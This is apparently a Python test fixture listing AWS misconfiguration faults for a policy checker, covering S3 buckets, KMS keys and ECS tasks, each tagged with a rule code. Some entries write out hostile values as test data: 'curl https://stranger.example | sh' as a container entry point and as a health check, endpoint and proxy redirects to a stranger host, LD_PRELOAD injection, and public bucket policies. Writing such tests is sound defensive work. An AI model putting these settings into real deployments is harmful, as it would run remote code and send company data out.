"""Faults in settings of AWS that stand beside those of the modules, each named after what it would cost."""

import json

from tests.promotion.policy.faults import Fault, also, edited, having
from tests.promotion.policy.faults_of_aws import (
    ACCOUNT,
    LANDING,
    TASK,
    allow,
    container,
    rule,
    running,
    scheduled,
    variable,
)

BUCKET, SERVICE = f"{LANDING}.aws_s3_bucket.this", "aws_ecs_service.splitter"
NAME, LOG = "marquee-prod-landing", "module.splitter_task.aws_cloudwatch_log_group.this"
PUBLIC = json.dumps({"Statement": [allow("s3:GetObject", principal="*")]})
OPEN = [{"assign_public_ip": True, "subnets": ["subnet-1"]}]
SIDECAR = {"name": "x", "image": "docker.io/stranger/x:1", "readonlyRootFilesystem": True,
           "logConfiguration": {"logDriver": "awslogs", "options": {}}}  # fmt: skip


def overriding(**changes):
    """The schedule's input changes the container."""
    return scheduled(input=json.dumps({"containerOverrides": [{"name": "main", **changes}]}))


FAULTS = (
    Fault("a second policy of the bucket takes the place of the first", "A101",
          also("aws_s3_bucket_policy", bucket=NAME, policy=PUBLIC)),
    Fault("a policy opens a bucket that no rule knows", "A101",
          also("aws_s3_bucket_policy", bucket="other", policy=PUBLIC)),
    Fault("a second block of public access opens the bucket", "A101",
          also("aws_s3_bucket_public_access_block", bucket=NAME, block_public_acls=False)),
    Fault("a second setting ends the versions", "A105",
          also("aws_s3_bucket_versioning", bucket=NAME, versioning_configuration=[{"status": "Suspended"}])),
    Fault("a second lifecycle empties the bucket overnight", "A106",
          also("aws_s3_bucket_lifecycle_configuration", bucket=NAME,
               rule=[{"status": "Enabled", "expiration": [{"days": 1}]}])),
    Fault("an ACL within the bucket opens it", "A101", having(BUCKET, acl="public-read")),
    Fault("a grant within the bucket opens it", "A101",
          having(BUCKET, grant=[{"uri": "http://acs.amazonaws.com/groups/global/AllUsers", "permissions": ["READ"]}])),
    Fault("a website within the bucket serves it", "A101", having(BUCKET, website=[{"index_document": "x"}])),
    Fault("web pages read the bucket by a rule within it", "A101",
          having(BUCKET, cors_rule=[{"allowed_origins": ["*"]}])),
    Fault("each new file is copied to a stranger by a block within the bucket", "A102",
          having(BUCKET, replication_configuration=[{"role": "x", "rules": [{}]}])),
    Fault("a person can't be erased for years: files are locked", "A106", having(BUCKET, object_lock_enabled=True)),
    Fault("a person can't be erased by a role: it has no second factor", "A106",
          having(f"{LANDING}.aws_s3_bucket_versioning.this",
                 versioning_configuration=[{"status": "Enabled", "mfa_delete": "Enabled"}])),
    Fault("old versions go in one folder, and stay in all others", "A106", rule(0, filter=[{"prefix": "tmp/"}])),
    Fault("old versions go if they have a tag", "A106", rule(0, filter=[{"tag": [{"key": "a", "value": "b"}]}])),
    Fault("old versions of an erased person stay for ten years", "A106",
          rule(0, noncurrent_version_expiration=[{"noncurrent_days": 3650}])),
    Fault("a hundred old versions of an erased person stay", "A106",
          rule(0, noncurrent_version_expiration=[{"noncurrent_days": 30, "newer_noncurrent_versions": 100}])),
    Fault("unfinished uploads go in one folder, and stay in all others", "A106", rule(1, filter=[{"prefix": "tmp/"}])),
    Fault("the key works on another continent, too", "A205", having("aws_kms_key.this", multi_region=True)),
    Fault("the key is in a machine of somebody's", "A301", having("aws_kms_key.this", custom_key_store_id="cks-1")),
    Fault("a key's policy that locks everybody out is accepted", "A301",
          having("aws_kms_key.this", bypass_policy_lockout_safety_check=True)),
    Fault("a stranger's image runs with the splitter's rights", "A504",
          container(image="docker.io/stranger/splitter:1")),
    Fault("an image of another account's registry runs with the splitter's rights", "A504",
          container(image="666666666666.dkr.ecr.eu-west-1.amazonaws.com/marquee/splitter:1")),
    Fault("a second container has the splitter's rights", "A504",
          edited(TASK, lambda found: found.append(SIDECAR), "container_definitions")),
    Fault("a shell runs in the place of the splitter", "T101",
          container(entryPoint=["sh", "-c", "curl https://stranger.example | sh"])),
    Fault("a secret that no role should read is in the task", "T101",
          container(secrets=[{"name": "A", "valueFrom": "arn:aws:ssm:eu-west-1:444444444444:parameter/x"}])),
    Fault("the task takes a stranger's machine for S3", "T101",
          container(extraHosts=[{"hostname": "s3.eu-west-1.amazonaws.com", "ipAddress": "192.0.2.1"}])),
    Fault("the splitter sends files to an endpoint of somebody's", "T101",
          variable("AWS_ENDPOINT_URL", "https://stranger.example")),
    Fault("the splitter logs in to a Snowflake of somebody's", "T101", variable("SNOWFLAKE_HOST", "stranger.example")),
    Fault("the splitter's calls go by a stranger", "T101", variable("HTTPS_PROXY", "http://stranger.example")),
    Fault("a library of somebody's is loaded before the splitter", "T101", variable("LD_PRELOAD", "/tmp/x.so")),
    Fault("a module of somebody's is loaded before the splitter", "T101", variable("PYTHONPATH", "/tmp")),
    Fault("the internet has the workers' addresses", "A503", having(SERVICE, network_configuration=OPEN)),
    Fault("the internet has the nightly task's address", "A503", running(network_configuration=OPEN)),
    Fault("the service runs a task that no plan has", "A504",
          having(SERVICE, task_definition=f"arn:aws:ecs:eu-west-1:{ACCOUNT}:task-definition/x:1")),
    Fault("five thousand workers wait for a file", "A701", having(SERVICE, desired_count=5000)),
    Fault("the nightly load runs in five hundred tasks", "A701", running(task_count=500)),
    Fault("the nightly load acts as another role", "T101",
          scheduled(input=json.dumps({"taskRoleArn": f"arn:aws:iam::{ACCOUNT}:role/admin"}))),
    Fault("the nightly load sends files to an endpoint of somebody's", "T101",
          overriding(environment=[{"name": "AWS_ENDPOINT_URL", "value": "https://stranger.example"}])),
    Fault("tasks run on a machine under somebody's desk", "A501", having(TASK, requires_compatibilities=["EXTERNAL"])),
    Fault("no alarm can count the lines of the log", "A603", having(LOG, log_group_class="INFREQUENT_ACCESS")),
    Fault("a shell runs each half minute as a check of health", "A504",
          container(healthCheck={"command": ["CMD-SHELL", "curl https://stranger.example | sh"]})),
    Fault("an empty disk hides the splitter's code", "A505",
          container(mountPoints=[{"containerPath": "/marquee", "sourceVolume": "tmp"}])),
    Fault("unfinished uploads cost money for ten years", "A106",
          rule(1, abort_incomplete_multipart_upload=[{"days_after_initiation": 3650}])),
)  # fmt: skip
